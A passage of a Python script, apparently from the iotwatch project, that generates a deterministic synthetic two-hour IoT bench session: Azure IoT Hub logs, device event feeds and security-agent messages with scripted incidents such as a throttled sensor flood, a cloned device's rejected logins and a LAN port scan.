"""Generate the sample bench session: a deterministic two-hour lab session for iotwatch.

Usage (from the project root, in the project's environment)::

    python sample_data/generate.py [--out sample_data] [--data-only] [--check]

Writes the inputs (``hub-log.json``, ``hub-log-eventhub.json``, ``hub-events.jsonl``,
``security-messages.jsonl``, ``board-1.capture``; and ``routed/bench-hub-messages.avro``, replayed
on its own) and ``iotwatch.toml``, then runs the project's
own command line to write ``azure-groups.json`` (``iotwatch groups export``),
``expected-alerts.jsonl`` and ``expected-summary.txt`` (``iotwatch replay``). With
``--data-only`` the command line is not run; with ``--check`` nothing is written and the exit
status says whether regenerating would change any file. The same seed always gives the same
bytes; README.md tells the story the data tells.
"""

from __future__ import annotations

import argparse
import io
import ipaddress
import os
import random
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import fastavro
import flatbuffers
import orjson

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:  # run as a script from a checkout without an installed package
    sys.path.insert(0, str(ROOT))

from engine.formats.hub_messages import ROUTING_SCHEMA, SECURITY_INTERFACE  # noqa: E402
from engine.simulators.board import HUB_ADDRESS, capture  # noqa: E402

SEED = 20261128
US = 1_000_000
MINUTE = 60 * US
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
DAY = datetime(2026, 11, 28, tzinfo=UTC)

# Hub identity, from documentation ranges and an all-zero subscription.
RESOURCE_ID = (
    "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/BENCH-LAB"
    "/PROVIDERS/MICROSOFT.DEVICES/IOTHUBS/BENCH-HUB"
)
LOCATION = "westeurope"
AUTH_SAS = '{"scope":"device","type":"sas","issuer":"iothub","acceptingIpFilterRule":null}'
AUTH_X509 = (
    '{"scope":"device","type":"x509Certificate","issuer":"external","acceptingIpFilterRule":null}'
)
SERVICE_SDK = "azure-iot-hub/2.6.1 (python 3.11; Linux)"
JUMP_HOST = "10.0.0.5"  # the bench's jump host: operators log in from here
LAB_LAPTOP = "10.0.0.66"  # an engineer's laptop on the bench LAN
NTP_SERVER = "192.0.2.123"  # sensor-01's hard-coded NTP server, outside the allow-list
CLONE_ADDRESS = "203.0.113.XXX"  # masked, as IoT Hub writes client addresses


def at(h: int, m: int, s: float = 0) -> int:
    """2026-11-28 h:m:s UTC in µs since the epoch."""
    base = int((DAY - EPOCH).total_seconds()) * US
    return base + (h * 3600 + m * 60) * US + round(s * US)


SESSION_END = at(10, 59, 59)  # every event is before 11:00
BOARD_START = at(9, 30)
BOARD_SECONDS = 3600  # attached 09:30-10:30; the capture file's mtime is its end
BOARD_SEED = 17

# Devices. sensor-12 is declared in iotwatch.toml but never powered.
SENSORS = [f"sensor-{i:02d}" for i in range(1, 12)]
SENSOR_PROTOCOL = {s: "Mqtt" for s in SENSORS} | {
    "sensor-08": "mqtt",
    "sensor-09": "MqttWs",
    "sensor-10": "MqttWs",
}
LAB_AMQP = {"lab-01": "Amqp", "lab-02": "Amqp", "lab-03": "AmqpWs", "lab-04": "AmqpWs"}
LAB_HTTP = {"lab-05": "Https", "lab-06": "Http"}
GATEWAY = "gateway-1"
BOARD = "bench-board-1"

FLOODER = "sensor-04"  # firmware bug: floods D2C 09:38-09:52
CLONED = "sensor-03"  # a clone with stale credentials retries 09:48-10:25
SILENT = "sensor-07"  # battery dies at 10:08
RUNAWAY = "sensor-05"  # a runaway deployment rewrites its twin 10:31-10:39
SILENT_AT = at(10, 8)
GATEWAY_DOWN = (at(10, 21, 10), at(10, 33))  # uplink lost; the offline store flushes after


def utc(us: int) -> datetime:
    return EPOCH + timedelta(microseconds=us)


def iso_ms(us: int) -> str:
    d = utc(us)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + f"{d.microsecond // 1000:03d}Z"


def new_uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def dumps(obj: Any) -> bytes:
    return orjson.dumps(obj)


def every(start: int, end: int, step: int) -> Iterator[int]:
    t = start
    while t < end:
        yield t
        t += step


class Timeline:
    """Lines of one output file, written in time order (ties keep insertion order)."""

    def __init__(self) -> None:
        self.items: list[tuple[int, int, bytes]] = []

    def add(self, t: int, line: bytes) -> None:
        self.items.append((t, len(self.items), line))

    def data(self) -> bytes:
        return b"".join(line + b"\n" for _, _, line in sorted(self.items))


# --- hub-log: Azure IoT Hub resource logs --------------------------------------------------------


class HubLog:
    """Resource-log records, as a diagnostic setting exports them."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.records: list[tuple[int, int, dict[str, Any]]] = []

    def time(self, us: int) -> str:
        # IoT Hub writes seven fractional digits.
        d = utc(us)
        return d.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{self.rng.randrange(10)}Z"

    def add(
        self,
        t: int,
        category: str,
        operation: str,
        props: dict[str, Any],
        *,
        level: str = "Information",
        result: tuple[str, str] | None = None,
        duration: int | None = None,
        as_object: bool | None = None,
    ) -> None:
        if t % US == 0:
            t += self.rng.randrange(1, US)  # no record lands on a whole second
        rec: dict[str, Any] = {
            "time": self.time(t),
            "resourceId": RESOURCE_ID,
            "operationName": operation,
            "category": category,
            "level": level,
        }
        if result is not None:
            rec["resultType"], rec["resultDescription"] = result
        if duration is not None:
            rec["durationMs"] = str(duration)
        if as_object is None:
            as_object = self.rng.random() < 0.12  # most records carry properties as a string
        rec["properties"] = props if as_object else dumps(props).decode()
        rec["location"] = LOCATION
        self.records.append((t, len(self.records), rec))

    def storage_lines(self) -> bytes:
        """Storage-account export: one record per line."""
        return b"".join(dumps(rec) + b"\n" for _, _, rec in sorted(self.records, key=_by_time))

    def eventhub_lines(self, batch: int) -> bytes:
        """Event Hubs export: one ``{"records": [...]}`` line per ``batch`` µs of records."""
        out = bytearray()
        group: list[dict[str, Any]] = []
        current = None
        for t, _, rec in sorted(self.records, key=_by_time):
            if current is not None and t // batch != current and group:
                out += dumps({"records": group}) + b"\n"
                group = []
            current = t // batch
            group.append(rec)
        if group:
            out += dumps({"records": group}) + b"\n"
        return bytes(out)


def _by_time(item: tuple[int, int, dict[str, Any]]) -> tuple[int, int]:
    return item[0], item[1]


def connect_props(
    device: str, protocol: str, sdk: str | None = None, address: str = "10.0.0.XXX"
) -> dict[str, Any]:
    return {
        "deviceId": device,
        "sdkVersion": sdk or sdk_of(device),
        "protocol": protocol,
        "authType": AUTH_X509 if device == BOARD else AUTH_SAS,
        "maskedIpAddress": address,
    }


def sdk_of(device: str) -> str:
    if device == BOARD:
        return "azsdk-c/1.5.0 (Azure RTOS ThreadX 6.4.1)"
    if device == GATEWAY:
        return "Microsoft.Azure.Devices.Client/1.42.0 (.NET 8.0; Linux; edgeHub 1.4.27)"
    if device.startswith("lab-"):
        return "azure-iot-device/2.13.0 (python 3.11; Linux; armv7l)"
    return "azure-iot-sdk-c/1.13.0 (FreeRTOS; esp32)"


def build_hub_log(rng: random.Random) -> tuple[bytes, bytes]:
    """The storage-account export (``hub-log.json``) and the Event Hubs one."""
    storage = HubLog(rng)
    eventhub = HubLog(rng)  # a second diagnostic setting: DirectMethods and FileUploadOperations
    connected = [*SENSORS, *LAB_AMQP, GATEWAY]
    protocol = SENSOR_PROTOCOL | LAB_AMQP | {GATEWAY: "Amqp", BOARD: "Mqtt"}

    # Connections: everything comes up at 09:00, a few reconnect during the session.
    for i, dev in enumerate(connected):
        t = at(9, 0, 1.5 + 2.1 * i + rng.random())
        props = connect_props(dev, protocol[dev])
        storage.add(t, "Connections", "deviceConnect", props)
    for dev in rng.sample([d for d in SENSORS if d not in (SILENT, CLONED)], 3):
        t = at(9, 0) + rng.randrange(20 * MINUTE, 110 * MINUTE)
        props = connect_props(dev, protocol[dev])
        storage.add(
            t,
            "Connections",
            "deviceDisconnect",
            props,
            level="Error",
            result=("404104", "DeviceConnectionClosedRemotely"),
        )
        storage.add(t + rng.randrange(3, 20) * US, "Connections", "deviceConnect", props)
    storage.add(
        BOARD_START + 4 * US,
        "Connections",
        "deviceConnect",
        connect_props(BOARD, "Mqtt"),
    )
    storage.add(
        BOARD_START + BOARD_SECONDS * US + 2 * US,
        "Connections",
        "deviceDisconnect",
        connect_props(BOARD, "Mqtt"),
        level="Error",
        result=("404104", "DeviceConnectionClosedRemotely"),
    )
    gw = connect_props(GATEWAY, "Amqp")
    storage.add(
        GATEWAY_DOWN[0],
        "Connections",
        "deviceDisconnect",
        gw,
        level="Error",
        result=("404104", "DeviceConnectionClosedRemotely"),
    )
    storage.add(GATEWAY_DOWN[1] + 2 * US, "Connections", "deviceConnect", gw)
    storage.add(
        SILENT_AT + 12 * US,
        "Connections",
        "deviceDisconnect",
        connect_props(SILENT, "Mqtt"),
        level="Error",
        result=("404104", "DeviceConnectionClosedRemotely"),
    )

    # The clone: another client with sensor-03's id and a stale SAS key, from outside the lab.
    # Its connects fail (401002); its twin reads fail too (statusCode 401 in properties).
    t = at(9, 48, 7)
    while t < at(10, 25):
        props = connect_props(CLONED, "MqttWs", "azure-iot-sdk-c/1.9.0 (Linux)", CLONE_ADDRESS)
        storage.add(
            t,
            "Connections",
            "deviceConnect",
            props,
            level="Error",
            result=("401002", "IotHubUnauthorizedAccess"),
            as_object=rng.random() < 0.2,
        )
        if rng.random() < 0.25:
            storage.add(
                t + rng.randrange(1, 4) * US,
                "D2CTwinOperations",
                "read",
                {"deviceId": CLONED, "protocol": "MqttWs", "statusCode": 401},
                level="Error",
                as_object=True,
            )
        t += rng.randrange(70, 110) * US

    # Reported properties: every device reports its state every ten minutes; the lab back end
    # updates the sensors' desired properties once at 09:10.
    for dev in [*SENSORS, *LAB_AMQP]:
        step = 15 * MINUTE if dev in LAB_AMQP else 10 * MINUTE
        for t in every(at(9, 1) + rng.randrange(0, step), SESSION_END, step):
            if dev == SILENT and t >= SILENT_AT:
                break
            props = {
                "deviceId": dev,
                "protocol": protocol[dev],
                "authenticationType": AUTH_SAS,
                "messageSize": str(rng.randint(180, 420)),
            }
            storage.add(t, "D2CTwinOperations", "update", props, duration=rng.randint(3, 40))
    for i, dev in enumerate(SENSORS):
        props = {"deviceId": dev, "sdkVersion": SERVICE_SDK, "messageSize": "312"}
        storage.add(at(9, 10, 3 + 0.8 * i), "C2DTwinOperations", "update", props, duration=12)
    # The runaway deployment: a configuration whose target condition flips keeps rewriting one twin.
    for k in range(15):
        props = {"deviceId": RUNAWAY, "sdkVersion": SERVICE_SDK, "messageSize": str(1400 + k)}
        t = at(10, 31, 5) + k * rng.randrange(28, 36) * US
        storage.add(t, "C2DTwinOperations", "update", props, duration=rng.randint(5, 25))

    # Telemetry errors: the flooding sensor is throttled.
    for t in every(at(9, 40, 11), at(9, 51), 31 * US):
        props = {
            "deviceId": FLOODER,
            "protocol": "Mqtt",
            "messageSizeInBytes": str(rng.randint(240, 260)),
            "batching": "0",
        }
        storage.add(
            t,
            "DeviceTelemetry",
            "ingress",
            props,
            level="Error",
            result=("429001", "ThrottlingException"),
        )
    # A hub-wide record with no device: the archive route's endpoint chokes on the flood.
    storage.add(
        at(9, 46, 20),
        "Routes",
        "endpointUnhealthy",
        {
            "endpointName": "telemetry-archive",
            "endpointType": "AzureStorageContainer",
            "details": "The operation timed out while writing a batch to the container.",
        },
        level="Error",
        result=("500001", "ServerError"),
    )
    # C2D messages queued for the silent sensor expire (logged; counted by no rule).
    for k in range(3):
        storage.add(
            at(10, 40, 5) + k * 7 * MINUTE,
            "C2DCommands",
            "expired",
            {"deviceId": SILENT, "messageSizeInBytes": "96", "deliveryCount": "0"},
            level="Error",
            result=("", "Message expired before it was delivered"),
        )

    # --- second diagnostic setting, to an event hub: direct methods and file uploads ---
    def method(t: int, dev: str, name: str, result: tuple[str, str] | None = None) -> None:
        props = {
            "deviceId": dev,
            "methodName": name,
            "RequestSize": rng.randint(2, 64),
            "ResponseSize": 0 if result else rng.randint(16, 512),
            "sdkVersion": SERVICE_SDK,
        }
        level = "Error" if result else "Information"
        eventhub.add(
            t,
            "DirectMethods",
            "send",
            props,
            level=level,
            result=result,
            duration=rng.randint(8, 90),
        )

    for t in every(at(9, 4, 12), SESSION_END, 10 * MINUTE):
        if not GATEWAY_DOWN[0] <= t < GATEWAY_DOWN[1]:
            method(t + rng.randrange(0, 20) * US, GATEWAY, "getDiagnostics")
    for dev in LAB_AMQP:
        for t in every(at(9, 12) + rng.randrange(0, 25 * MINUTE), SESSION_END, 30 * MINUTE):
            method(t, dev, "ping")
    method(at(10, 19, 40), SILENT, "ping", ("404103", "DeviceNotOnline"))
    # An operator's script loops "reboot" on lab-02 because the reply times out.
    for k in range(9):
        method(at(10, 46, 3) + k * rng.randrange(38, 46) * US, "lab-02", "reboot")

    def upload(t: int, dev: str, name: str) -> None:
        props = {
            "deviceId": dev,
            "protocol": LAB_AMQP[dev],
            "authType": AUTH_SAS,
            "blobUri": f"https://benchlabdiag.blob.core.windows.net/uploads/{dev}/{name}",
        }
        eventhub.add(t, "FileUploadOperations", "ingress", props, duration=rng.randint(200, 900))

    for t in every(at(9, 10, 30), SESSION_END, 30 * MINUTE):
        upload(t + rng.randrange(0, 60) * US, "lab-04", f"diag-{utc(t):%H%M}.tar.gz")
    # lab-04 crash-loops and uploads a core dump after every crash.
    for k in range(6):
        t = at(9, 32, 20) + k * 2 * MINUTE + rng.randrange(0, 30) * US
        upload(t, "lab-04", f"core-{utc(t):%H%M%S}.gz")
    upload(at(10, 5, 41), "lab-01", "capture-1005.pcap")

    return storage.storage_lines(), eventhub.eventhub_lines(20 * MINUTE)


# --- hub-events: iotwatch's feed of hub-side operations ------------------------------------------


def build_hub_events(rng: random.Random) -> bytes:
    tl = Timeline()

    def op(
        t: int,
        dev: str,
        name: str,
        protocol: str | None = None,
        *,
        count: int | None = None,
        status: int | str | None = 200,
        module: str | None = None,
    ) -> bytes:
        if t % US == 0:
            t += rng.randrange(1, 1000) * 1000  # the feed writes milliseconds
        rec: dict[str, Any] = {"time": iso_ms(t), "deviceId": dev, "moduleId": module, "op": name}
        if protocol is not None:
            rec["protocol"] = protocol
        if status is not None:
            rec["status"] = status
        if count is not None:
            rec["count"] = count
        line = dumps(rec)
        tl.add(t, line)
        return line

    # Telemetry: sensors once a minute (two readings in one message now and then).
    for dev in SENSORS:
        start = at(9, 0) + rng.randrange(5, 55) * US
        for t in every(start, SESSION_END, MINUTE):
            if dev == SILENT and t >= SILENT_AT:
                break
            if dev == FLOODER and at(9, 38) <= t < at(9, 52):
                continue
            if rng.random() < 0.03:
                continue  # a reading lost on the radio
            t += rng.randrange(0, 900_000)
            op(t, dev, "d2c", SENSOR_PROTOCOL[dev], count=2 if rng.random() < 0.1 else 1)
    # The flood: a firmware bug resends the whole ring buffer every ten seconds.
    for t in every(at(9, 38, 4), at(9, 52), 10 * US):
        op(t + rng.randrange(0, 400_000), FLOODER, "d2c", "Mqtt", count=8)
    # Lab devices over AMQP, counted per minute by the feed.
    for dev, proto in LAB_AMQP.items():
        for t in every(at(9, 0) + rng.randrange(5, 55) * US, SESSION_END, MINUTE):
            op(t, dev, "d2c", proto, count=rng.randint(2, 4))
    # A record the feed wrote late: lab-03's 09:58 batch, retried after a timeout at 10:04.
    late = {
        "time": iso_ms(at(9, 58, 30.25)),
        "deviceId": "lab-03",
        "moduleId": None,
        "op": "d2c",
        "protocol": "AmqpWs",
        "status": 200,
        "count": 40,
    }
    tl.add(at(10, 4, 10), dumps(late))
    # The gateway forwards its leaf devices' telemetry (module opcPublisher); offline 10:21-10:33,
    # then its offline store flushes 600 messages in two minutes.
    for t in every(at(9, 0, 20), SESSION_END, MINUTE):
        if GATEWAY_DOWN[0] <= t < GATEWAY_DOWN[1]:
            continue
        op(t, GATEWAY, "d2c", "amqp", count=rng.randint(8, 12), module="opcPublisher")
    for k in range(4):
        t = GATEWAY_DOWN[1] + (5 + 30 * k) * US
        op(t, GATEWAY, "d2c", "amqp", count=150, module="opcPublisher")
    # HTTPS devices post every two minutes; lab-06 has a retry storm after a 503.
    for dev, proto in LAB_HTTP.items():
        for t in every(at(9, 1) + rng.randrange(0, 110) * US, SESSION_END, 2 * MINUTE):
            op(t, dev, "d2c", proto, count=1)
    for t in every(at(9, 50, 2), at(9, 58), 10 * US):
        op(t + rng.randrange(0, 2_000_000), "lab-06", "d2c", "Https", count=1)
    # lab-06's SAS token expires: two posts are refused before it renews it.
    op(at(10, 10, 2), "lab-06", "d2c", "Https", count=1, status=401)
    op(at(10, 10, 4), "lab-06", "d2c", "Https", count=1, status=401)
    # The serial board's telemetry, every five seconds, counted per minute.
    for t in every(BOARD_START + 30 * US, BOARD_START + BOARD_SECONDS * US, MINUTE):
        op(t, BOARD, "d2c", "Mqtt", count=12)

    # Cloud-to-device: occasional configuration messages to the sensors ...
    for dev in SENSORS:
        for _ in range(rng.randint(1, 3)):
            t = at(9, 0) + rng.randrange(2 * MINUTE, 118 * MINUTE)
            if dev == SILENT and t >= SILENT_AT:
                continue
            op(t, dev, "c2d", SENSOR_PROTOCOL[dev], count=1)
    # ... and a bad configuration pushed to sensor-02, retried nine times, rejected seven.
    for k in range(9):
        t = at(9, 16, 10) + k * 50 * US + rng.randrange(0, 5_000_000)
        op(t, "sensor-02", "c2d", "Mqtt", count=1)
        if k >= 2:
            op(t + 400_000, "sensor-02", "c2d-reject", "Mqtt", count=1)
    # The gateway's commands, every five minutes; at 10:05 a back-end service replays its
    # command stream (25 messages); the gateway rejects the 8 duplicates it can detect, and an
    # operator's clean-up script purges its queue three times.
    for t in every(at(9, 2, 30), SESSION_END, 5 * MINUTE):
        if not GATEWAY_DOWN[0] <= t < GATEWAY_DOWN[1]:
            op(t + rng.randrange(0, 10) * US, GATEWAY, "c2d", "Amqp", count=1)
    for k in range(5):
        t = at(10, 5, 12) + k * 80 * US
        op(t, GATEWAY, "c2d", "AmqpWs", count=5)
        if k >= 1:
            op(t + 3 * US, GATEWAY, "c2d-reject", "AmqpWs", count=2)
    for t in (at(10, 12, 40), at(10, 13, 5), at(10, 20, 30)):
        op(t, GATEWAY, "purge", status=None)
    op(at(9, 5, 14), "lab-04", "purge", status=None)  # a routine purge before a test run
    op(at(10, 50, 0), SILENT, "purge", status=None)  # nobody will read sensor-07's queue
    # HTTPS devices get commands when they poll: lab-06 rejects three malformed ones at 09:25,
    # lab-05 receives six firmware chunks at 10:20.
    for dev, proto in LAB_HTTP.items():
        for t in every(at(9, 8) + rng.randrange(0, 300) * US, SESSION_END, 20 * MINUTE):
            op(t, dev, "c2d", proto, count=1)
    for k, t in enumerate((at(9, 25, 10), at(9, 26, 40), at(9, 27, 55))):
        op(t - 200_000, "lab-06", "c2d", "Http", count=1)
        op(t, "lab-06", "c2d-reject", "Http" if k else "HTTPS", count=1)
    for k in range(6):
        op(at(10, 20, 5) + k * 45 * US, "lab-05", "c2d", "Https", count=1)

    # Direct methods on the board (the bench script reads its settings every ten minutes),
    # module twin updates on the gateway, an upload by lab-01.
    for t in every(BOARD_START + 3 * MINUTE, BOARD_START + BOARD_SECONDS * US, 10 * MINUTE):
        op(t, BOARD, "method")
    for t in every(at(9, 3, 33), SESSION_END, 10 * MINUTE):
        if not GATEWAY_DOWN[0] <= t < GATEWAY_DOWN[1]:
            op(t, GATEWAY, "twin-update", module="edgeAgent")
    op(at(9, 40, 9), GATEWAY, "twin-update", module="opcPublisher")
    op(at(10, 37, 12), "lab-03", "twin-update", status="401003")  # a rotated service key
    op(at(10, 5, 40), "lab-01", "upload")

    # Deliberately bad lines: a line cut off and run into the next one, a record without a
    # device, and an op this feed's reader does not know.
    good = op(at(9, 41, 7), "sensor-08", "d2c", "mqtt", count=1)
    tl.items.pop()
    tl.add(at(9, 41, 7), good[:57] + good)
    tl.add(at(10, 2, 50), dumps({"time": iso_ms(at(10, 2, 50)), "op": "d2c", "protocol": "Mqtt"}))
    tl.add(
        at(10, 14, 2),
        dumps(
            {
                "time": iso_ms(at(10, 14, 2)),
                "deviceId": GATEWAY,
                "moduleId": None,
                "op": "c2d-abandon",
                "protocol": "Amqp",
                "status": 200,
            }
        ),
    )
    return tl.data()


# --- security-messages: Defender for IoT security-agent messages ---------------------------------


class Agent:
    """One device's security agent: its envelope, timestamp style and message builder."""

    def __init__(
        self, device: str, rng: random.Random, envelope: str, sep: str, millis: bool, local: int
    ) -> None:
        self.device = device
        self.rng = rng
        self.envelope = envelope  # "body", "monitor" or "bare"
        self.sep = sep  # between date and time: "T" or " " (both spellings occur)
        self.millis = millis  # whether timestamps carry milliseconds
        self.local = local  # local UTC offset in hours, for TimestampLocal
        self.agent_id = new_uuid(rng)
        self.address = f"10.0.0.{rng.randint(20, 220)}"

    def stamps(self, t: int) -> tuple[str, str]:
        sep = self.sep
        d = utc(t)
        frac = f".{d.microsecond // 1000:03d}" if self.millis else ""
        local = d + timedelta(hours=self.local)
        offset = f"+{self.local:02d}:00"
        return (
            local.strftime(f"%Y-%m-%d{sep}%H:%M:%S") + frac + offset,
            d.strftime(f"%Y-%m-%d{sep}%H:%M:%S") + frac + "Z",
        )

    def event(
        self,
        name: str,
        category: str,
        t: int,
        payload: list[dict[str, Any]],
        event_type: str = "Security",
    ) -> tuple[int, dict[str, Any]]:
        local, stamp = self.stamps(t)
        return t, {
            "EventType": event_type,
            "Category": category,
            "Name": name,
            "IsEmpty": not payload,
            "PayloadSchemaVersion": "1.0",
            "Id": new_uuid(self.rng),
            "TimestampLocal": local,
            "TimestampUTC": stamp,
            "Payload": payload,
        }

    def hits(self, n: int) -> dict[str, Any]:
        # Agents write the count as an int or as a string.
        return {"HitCount": n if self.rng.random() < 0.5 else str(n)}

    def connection(
        self,
        direction: str,
        remote: str,
        port: str,
        *,
        protocol: str = "tcp",
        local_port: str | None = None,
        hits: int | None = None,
    ) -> dict[str, Any]:
        item: dict[str, Any] = {
            "Protocol": protocol,
            "Direction": direction,
            "LocalAddress": self.address,
            "LocalPort": local_port or str(self.rng.randint(32768, 60999)),
            "RemoteAddress": remote,
            "RemotePort": port,
        }
        if hits is not None:
            item["ExtraDetails"] = self.hits(hits)
        return item

    def login(self, user: str, result: str, remote: str, hits: int | None = None) -> dict[str, Any]:
        item: dict[str, Any] = {
            "ProcessId": self.rng.randint(200, 9000),
            "UserName": user,
            "UserId": {"root": "0", "operator": "1000", "ci-runner": "1001"}.get(user, "1002"),
            "Operation": "Login",
            "Result": result,
            "Executable": "/usr/sbin/sshd",
            "RemoteAddress": remote,
        }
        if hits is not None:
            item["ExtraDetails"] = self.hits(hits)
        return item

    def process(self, exe: str, command: str, user: str = "root") -> dict[str, Any]:
        return {
            "Executable": exe,
            "ProcessId": self.rng.randint(200, 9000),
            "ParentProcessId": 1,
            "UserName": user,
            "UserId": "0" if user == "root" else "1000",
            "CommandLine": command,
        }

    def line(self, events: list[tuple[int, dict[str, Any]]]) -> bytes:
        events.sort(key=lambda e: e[0])
        message = {
            "AgentVersion": "4.2.5",
            "AgentId": self.agent_id,
            "MessageSchemaVersion": "1.0",
            "Events": [e for _, e in events],
        }
        if self.envelope == "body":
            return dumps({"deviceId": self.device, "body": message})
        if self.envelope == "monitor":
            event = {
                "origin": self.device,
                "module": "",
                "interface": "",
                "component": "",
                "payload": message,
            }
            return dumps({"event": event})
        return dumps({"DeviceId": self.device, **message})


# Processes each kind of device starts in normal operation.
_SENSOR_PROCS = [
    ("/usr/bin/sensord", "/usr/bin/sensord -c /etc/sensord.conf"),
    ("/bin/busybox", "busybox ash /etc/init.d/S40network restart"),
]
_LAB_PROCS = [
    ("/usr/local/bin/python3", "python3 -m labctl.collect --interval 60"),
    ("/usr/sbin/sshd", "sshd: operator [priv]"),
    ("/usr/bin/ota-agent", "/usr/bin/ota-agent --check"),
]
_GATEWAY_PROCS = [
    ("/usr/bin/iotedge", "iotedge check --verbose"),
    ("/usr/bin/dockerd", "dockerd -H fd://"),
    ("/usr/bin/containerd-shim", "containerd-shim -namespace moby"),
]


def build_security_messages(rng: random.Random) -> bytes:
    agents = {
        a.device: a
        for a in (
            Agent("lab-01", rng, "body", "T", False, 1),
            Agent("lab-02", rng, "body", "T", False, 1),
            Agent("lab-03", rng, "body", " ", True, 1),
            Agent("lab-04", rng, "body", " ", True, 1),
            Agent(GATEWAY, rng, "monitor", "T", True, 0),
            Agent("sensor-01", rng, "bare", " ", False, 0),
            Agent("sensor-02", rng, "bare", " ", False, 0),
            Agent("sensor-03", rng, "bare", " ", False, 0),
        )
    }
    tl = Timeline()
    # Routine traffic: each agent sends a message once a minute when it has something to say,
    # holding the events of the last 45 seconds, so that no event is ever more than a minute
    # behind the file (lateness PT1M): a live session never has to amend a window for them.
    for dev, agent in agents.items():
        r = agent.rng
        sensor = dev.startswith("sensor")
        hub_port = "8883" if sensor else "5671"
        procs = _SENSOR_PROCS if sensor else _GATEWAY_PROCS if dev == GATEWAY else _LAB_PROCS
        start = at(9, 0, 50) + r.randrange(0, 60_000) * 1000
        for tick, t1 in enumerate(every(start, SESSION_END, MINUTE)):

            def when(t1: int = t1, r: random.Random = r) -> int:
                return t1 - r.randrange(0, 45_000) * 1000

            events: list[tuple[int, dict[str, Any]]] = []
            if tick % 5 == 0:
                events.append(agent.event("Heartbeat", "Periodic", t1, [], "Operational"))
            if tick % 30 == 0:
                events.append(agent.event("SystemInformation", "Periodic", t1, [_sysinfo(agent)]))
                events.append(agent.event("ListeningPorts", "Periodic", t1, _ports(agent)))
            if tick == 1:
                events.append(agent.event("FirewallConfiguration", "Periodic", t1, _firewall()))
            uplink = not (dev == GATEWAY and GATEWAY_DOWN[0] <= t1 < GATEWAY_DOWN[1])
            if uplink and r.random() < 0.35:
                item = agent.connection("Out", HUB_ADDRESS, hub_port, hits=r.randint(1, 4))
                events.append(agent.event("ConnectionCreate", "Aggregated", when(), [item]))
            if r.random() < 0.1:
                item = agent.connection("Out", "10.0.0.1", "53", protocol="udp")
                events.append(agent.event("ConnectionCreate", "Triggered", when(), [item]))
            if dev == "sensor-01" and tick % 5 == 2:
                # sensor-01's firmware has a public NTP server hard-coded: not on the allow-list.
                item = agent.connection("Out", NTP_SERVER, "123", protocol="udp", local_port="123")
                events.append(agent.event("ConnectionCreate", "Triggered", when(), [item]))
            if r.random() < 0.05:
                exe, command = procs[r.randrange(len(procs))]
                item = agent.process(exe, command)
                events.append(agent.event("ProcessCreate", "Triggered", when(), [item]))
            if r.random() < 0.012:
                t = when()
                user = "ci-runner" if dev == "lab-03" else "operator"
                port = str(r.randint(40000, 60000))
                item = agent.connection("In", JUMP_HOST, port, local_port="22")
                events.append(agent.event("ConnectionCreate", "Triggered", t - 300_000, [item]))
                item = agent.login(user, "Success", JUMP_HOST)
                events.append(agent.event("Login", "Triggered", t, [item]))
            if r.random() < 0.006:
                item = agent.login("operator", "Fail", JUMP_HOST)
                events.append(agent.event("Login", "Triggered", when(), [item]))
            if events:
                tl.add(t1 + r.randrange(200, 2_000) * 1000, agent.line(events))

    # The story's events, each sent at once in a message of its own (as agents send triggered
    # events of high priority).
    def story(dev: str, t: int, *events: tuple[str, str, list[dict[str, Any]]]) -> None:
        agent = agents[dev]
        t += agent.rng.randrange(1, 1000) * 1000
        built = [
            agent.event(name, cat, t + k * 150_000, p) for k, (name, cat, p) in enumerate(events)
        ]
        tl.add(t + 1_500_000, agent.line(built))

    a = agents["lab-01"]
    # An engineer tries a newer Python on lab-01: python3 is allowed by base name,
    # /usr/bin/python3.11 is not.
    story(
        "lab-01",
        at(9, 21, 2),
        (
            "ProcessCreate",
            "Triggered",
            [a.process("/usr/local/bin/python3", "python3 bench.py", "operator")],
        ),
    )
    for t in (at(9, 22, 14), at(9, 27, 40)):
        story(
            "lab-01",
            t,
            (
                "ProcessCreate",
                "Triggered",
                [a.process("/usr/bin/python3.11", "python3.11 -m pip install labctl", "operator")],
            ),
        )
    a = agents["lab-04"]
    # A technician logs in to lab-04 as root to pull its core dumps.
    story(
        "lab-04",
        at(9, 47, 12),
        (
            "ConnectionCreate",
            "Triggered",
            [a.connection("In", JUMP_HOST, "51122", local_port="22")],
        ),
        ("Login", "Triggered", [a.login("root", "Success", JUMP_HOST)]),
    )
    a = agents["lab-03"]
    # A buggy agent build writes a HitCount that is no number: that event is quarantined, the
    # other event of the message is kept.
    story(
        "lab-03",
        at(9, 55, 5),
        (
            "ProcessCreate",
            "Triggered",
            [a.process("/usr/bin/ota-agent", "/usr/bin/ota-agent --check")],
        ),
        (
            "ConnectionCreate",
            "Aggregated",
            [{**a.connection("Out", HUB_ADDRESS, "5671"), "ExtraDetails": {"HitCount": "many"}}],
        ),
    )
    a = agents["lab-02"]
    # An engineer port-scans lab-02 from a laptop on the bench LAN (an allowed address).
    scan = [
        {
            **a.connection("In", LAB_LAPTOP, "61001", local_port="22"),
            "ExtraDetails": {"HitCount": "312"},
        },
        {
            **a.connection("In", LAB_LAPTOP, "61002", local_port="80"),
            "ExtraDetails": {"HitCount": 190},
        },
    ]
    story("lab-02", at(10, 16, 30), ("ConnectionCreate", "Aggregated", scan))
    a = agents[GATEWAY]
    # Someone who forgot the gateway's admin password.
    story(
        GATEWAY,
        at(10, 41, 5),
        (
            "ConnectionCreate",
            "Triggered",
            [a.connection("In", LAB_LAPTOP, "50544", local_port="22")],
        ),
        ("Login", "Aggregated", [a.login("admin", "Fail", LAB_LAPTOP, hits=7)]),
    )
    a = agents["sensor-02"]
    # sensor-02's debug port: once from the jump host (as an IPv4-mapped IPv6 address, allowed),
    # once from an IPv6 address outside the allow-list.
    story(
        "sensor-02",
        at(9, 33, 10),
        (
            "ConnectionCreate",
            "Triggered",
            [a.connection("In", "::ffff:10.0.0.5", "50001", local_port="2323")],
        ),
    )
    story(
        "sensor-02",
        at(10, 2, 33),
        (
            "ConnectionCreate",
            "Triggered",
